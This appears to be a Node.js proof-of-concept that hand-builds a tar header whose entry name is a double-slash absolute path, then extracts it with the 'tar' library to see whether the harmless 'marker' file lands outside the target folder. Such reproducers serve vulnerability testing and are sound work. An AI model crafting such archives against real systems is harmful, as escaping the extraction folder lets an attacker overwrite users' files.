"use strict";
// One hand-made ustar entry: the library strips such names when it writes archives.
const fs = require("fs");
const path = require("path");
const tar = require("tar");

const name = process.argv.includes("benign") ? "plain.txt" : `//${path.resolve("escaped.txt")}`;
const header = Buffer.alloc(512);
header.write(name, 0);
header.write("0000644\0", 100);
header.write("0000000\0", 108);
header.write("0000000\0", 116);
header.write("00000000006\0", 124);
header.write("00000000000\0", 136);
header.write("        ", 148); // the checksum counts as blanks
header.write("0", 156);
header.write("ustar\u000000", 257);
const sum = header.reduce((total, byte) => total + byte, 0);
header.write(sum.toString(8).padStart(6, "0") + "\0 ", 148);
const data = Buffer.alloc(512);
data.write("marker");
fs.writeFileSync("a.tar", Buffer.concat([header, data, Buffer.alloc(1024)]));
fs.mkdirSync("out");
tar.extract({ file: "a.tar", cwd: path.resolve("out"), sync: true });
console.log("in the folder:", fs.readdirSync("out"));
